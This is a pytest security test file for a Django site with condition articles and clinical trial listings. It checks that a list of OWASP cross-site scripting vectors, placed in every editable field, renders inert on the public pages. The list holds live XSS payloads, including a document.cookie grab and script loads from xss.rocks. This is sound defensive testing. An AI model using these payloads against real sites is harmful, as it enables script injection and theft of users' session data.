"""Stored XSS: vectors from the OWASP filter-evasion cheat sheet in every editable text
field staff can fill in, rendered on every public page that shows them, stay inert."""

import pytest

from tests.conditions.factories import (
    ArticleFactory,
    ComparisonCellFactory,
    ComparisonColumnFactory,
    ComparisonFactory,
    ComparisonRowFactory,
    FAQFactory,
    GlossaryTermFactory,
    ReferenceFactory,
    SectionFactory,
)
from tests.security.pages import audit
from tests.trials.factories import CentralContactFactory, SiteFactory, TrialFactory

pytestmark = pytest.mark.django_db

OWASP_VECTORS = [
    "<script>alert('XSS')</script>",
    '<IMG SRC="javascript:alert(\'XSS\');">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<a href=\"javascript&colon;alert(1)\">link</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "![img](x\" onerror=\"alert(1))",
    "<details open ontoggle=alert(1)>",
    "\"><script>alert(document.cookie)</script>",
    "'; alert(1); var x='",
    "</script><script>alert(1)</script>",
]


def payload(index: int) -> str:
    return OWASP_VECTORS[index % len(OWASP_VECTORS)]


def short(text: str) -> str:
    """The vector cut to fit a 100-character field (PostgreSQL enforces lengths)."""
    return text[:100]


def assert_inert(html: str, where: str) -> None:
    page = audit(html)
    assert page.event_handlers == [], where
    assert page.script_urls == [], where
    assert page.untrusted_scripts == [], where
    assert page.foreign_fetches == [], where
    assert "<script>alert" not in html.lower(), where


@pytest.mark.parametrize("vector", range(len(OWASP_VECTORS)))
def test_vectors_in_condition_content_render_inert(client, vector):
    text = payload(vector)
    article = ArticleFactory(name=f"Condition {short(text)}", short_name=text[:20], summary=text,
                             slug=f"condition-{vector}")
    article.references.add(ReferenceFactory(citation=text, url="javascript:alert(1)"))
    SectionFactory(article=article, heading=short(text),
                   body=f"Intro.\n\n{text}\n\nMore {text}")
    FAQFactory(article=article, question=f"Why {short(text)}?", answer=text,
               slug=f"faq-{vector}")
    term = GlossaryTermFactory(term=f"Word{vector}", definition=text, also_called=text[:50])
    comparison = ComparisonFactory(title=f"Compare {short(text)}", intro=text,
                                   slug=f"cmp-{vector}")
    column = ComparisonColumnFactory(comparison=comparison, article=article)
    row = ComparisonRowFactory(comparison=comparison, feature=short(text), slug=f"row-{vector}")
    ComparisonCellFactory(row=row, column=column, answer=short(text), note=text)

    for url in ["/", "/conditions/", article.get_absolute_url(), "/glossary/",
                term.get_absolute_url(), "/compare/", comparison.get_absolute_url(),
                "/search/?q=alert", "/sitemap.xml"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url)


@pytest.mark.parametrize("vector", range(len(OWASP_VECTORS)))
def test_vectors_in_trial_records_render_inert(client, vector):
    text = payload(vector)
    trial = TrialFactory(
        brief_title=f"Study {short(text)}", official_title=text, brief_summary=text,
        detailed_description=text, eligibility_criteria=f"Inclusion Criteria:\n* {text}\n\n"
        f"Exclusion Criteria:\n* {text}", conditions=[text], keywords=[text],
        interventions=[{"type": "DRUG", "name": text, "description": text}],
        lead_sponsor=short(text),
    )
    SiteFactory(trial=trial, facility=short(text), city="Boston")
    CentralContactFactory(trial=trial, name=short(text), phone=text[:30])
    for url in ["/trials/?status=any", f"/trials/?status=any&q={vector}",
                trial.get_absolute_url(), "/search/?q=study"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url)
